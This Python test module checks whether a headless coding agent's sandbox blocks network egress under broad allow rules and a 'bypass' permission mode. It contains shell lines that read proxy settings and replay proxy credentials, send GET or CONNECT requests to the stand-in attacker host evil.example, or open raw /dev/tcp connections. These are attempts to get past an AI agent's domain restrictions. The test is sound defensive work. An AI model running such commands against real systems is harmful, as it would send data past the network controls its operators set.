"""Commands that try to reach hosts that no rule names, under wide rules and the mode `bypass`.

Each attempt is a command line of `Bash` in a headless agent's setup. It looks for a proxy in its environment and asks
that for a host of the attacker, or connects directly. The sandbox is given a resolver and a dialler that record what
they are asked for: a name or an address of the attacker in them is an effect. Each tier that works is tried. So that a
wall that shuts everything is not taken for one that knows what it does, a host that a rule names must be reached.
"""

from __future__ import annotations

import asyncio
import contextvars
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Final, NamedTuple

from lyra.agents.headless.options import HeadlessOptions
from lyra.agents.headless.setup import setup_of
from lyra.core.tool import Tool, rights
from lyra.errors import LyraError
from lyra.sandbox import Sandbox
from lyra.sandbox.addresses import Lookup

__all__ = ["ATTEMPTS", "Attempt", "Report", "run"]

_EVIL: Final = "evil.example"
_GOOD: Final = "good.example"
_ADDRESSES: Final = {_EVIL: ["93.184.216.34"], _GOOD: ["93.184.216.35"]}

# What a command says to the proxy that its environment names; without one it has no way to say it.
_ASK: Final = """
for name in http_proxy HTTP_PROXY https_proxy HTTPS_PROXY all_proxy ALL_PROXY; do
  place=${!name}; place=${place#*//}; user=${place%@*}; place=${place##*@}
  [ -n "$place" ] || continue
  exec 3<>"/dev/tcp/${place%%:*}/${place##*:}" || continue
  printf '%b' "REQUESTProxy-Authorization: Basic $(printf %s "$user" | base64 -w0)\\r\\n\\r\\n" >&3
  timeout 2 head -c 200 <&3; break
done; true
"""


class Attempt(NamedTuple):
    """A command line, and the rules that the run is given."""

    name: str
    command: str
    allow: tuple[str, ...] = ()
    mode: str | None = "bypass"
    deny: tuple[str, ...] = ()


def _asking(request: str) -> str:
    return _ASK.replace("REQUEST", request)


_GET: Final = _asking(rf"GET http://{_EVIL}/?stolen HTTP/1.1\r\nHost: {_EVIL}\r\n")
_CONNECT: Final = _asking(rf"CONNECT {_EVIL}:443 HTTP/1.1\r\nHost: {_EVIL}:443\r\n")
_BY_ADDRESS: Final = _asking(r"CONNECT 93.184.216.34:443 HTTP/1.1\r\n")
_OTHER_HOST: Final = _asking(rf"GET http://{_EVIL}/ HTTP/1.1\r\nHost: {_GOOD}\r\n")
_DIRECT: Final = "exec 3<>/dev/tcp/93.184.216.34/80 && echo reached-it; true"
_WAYS: Final = {
    "GET through the proxy": _GET,
    "CONNECT through the proxy": _CONNECT,
    "CONNECT to an address": _BY_ADDRESS,
    "another Host header": _OTHER_HOST,
    "a connection of its own": _DIRECT,
}
_RULES: Final[tuple[tuple[str, dict[str, tuple[str, ...]]], ...]] = (
    ("bypass alone", {}),
    ("bypass and Bash", {"allow": ("Bash",)}),
    ("bypass and WebFetch", {"allow": ("Bash", "WebFetch")}),
    ("bypass and every tool", {"allow": ("*",)}),
    ("bypass and every domain", {"allow": ("Bash", "WebFetch(domain:*)")}),
    ("bypass and two labels", {"allow": ("Bash", "WebFetch(*.*)")}),
    ("bypass and a top level", {"allow": ("Bash", "WebFetch(*.example)")}),
    ("bypass and a page of it", {"allow": ("Bash", f"WebFetch(https://{_EVIL}/docs/*)")}),
    ("bypass and another host", {"allow": ("Bash", f"WebFetch({_GOOD})")}),
    ("bypass and a denied host", {"allow": ("Bash", f"WebFetch({_EVIL})"), "deny": (f"WebFetch({_EVIL})",)}),
)
ATTEMPTS: Final = tuple(
    Attempt(f"{rules}: {way}", command, given.get("allow", ()), deny=given.get("deny", ()))
    for rules, given in _RULES
    for way, command in _WAYS.items()
)


@dataclass(slots=True)
class Report:
    attempts: int = 0
    tiers: list[str] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)


class _Outside:
    """The resolver and the dialler of a sandbox, which record what they are asked for."""

    def __init__(self) -> None:
        self.looked_up: list[str] = []
        self.dialled: list[str] = []

    async def lookup(self, host: str, _port: int) -> list[str]:
        self.looked_up.append(host)
        return _ADDRESSES.get(host, [])

    async def dial(self, address: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        self.dialled.append(address)
        raise OSError(f"{address}:{port} is not reached in this test")


def run(attempts: Sequence[Attempt] = ATTEMPTS) -> Report:
    """Try every attempt in every tier that works here."""
    report = Report()
    with tempfile.TemporaryDirectory(prefix="lyra-egress-") as folder:
        for tier in ("bubblewrap", "landlock"):
            if not _works(tier):
                continue
            report.tiers.append(tier)
            for attempt in attempts:
                report.attempts += 1
                outside = _tried(attempt, tier, folder)
                if _EVIL in outside.looked_up or outside.dialled:
                    reached = ", ".join((*outside.looked_up, *outside.dialled))
                    report.failures.append(f"{tier}: {attempt.name}: it reached {reached}")
            named = Attempt("a named host", _GET.replace(_EVIL, _GOOD), ("Bash", f"WebFetch({_GOOD})"))
            if _GOOD not in _tried(named, tier, folder).looked_up:
                report.failures.append(f"{tier}: a host that a rule names is not reached")
    if not report.tiers:
        report.failures.append("no sandbox works here, so nothing was tried")
    return report


def _works(tier: str) -> bool:
    try:
        asyncio.run(Sandbox(tiers=(tier,)).tier())
    except LyraError:
        return False
    return True


def _tried(attempt: Attempt, tier: str, folder: str) -> _Outside:
    outside = _Outside()
    lookup: Lookup = outside.lookup
    options = HeadlessOptions(folder=folder, mode=attempt.mode, allow=attempt.allow, deny=attempt.deny)
    setup = setup_of(options, sandbox=Sandbox(tiers=(tier,), lookup=lookup, dial=outside.dial))
    bash = next(tool for tool in setup.tools if isinstance(tool, Tool) and tool.name == "Bash")
    assert bash.run is not None

    async def call() -> str:
        rights.set(setup.permissions.narrow(setup.grant))
        return str(await bash.run(command=attempt.command))  # type: ignore[misc]

    output = contextvars.copy_context().run(asyncio.run, call())
    if "reached-it" in output:
        outside.dialled.append("a host, by a connection of its own")
    if "exit code" not in output:
        outside.dialled.append(f"nothing: the command did not run: {output[:200]}")
    return outside
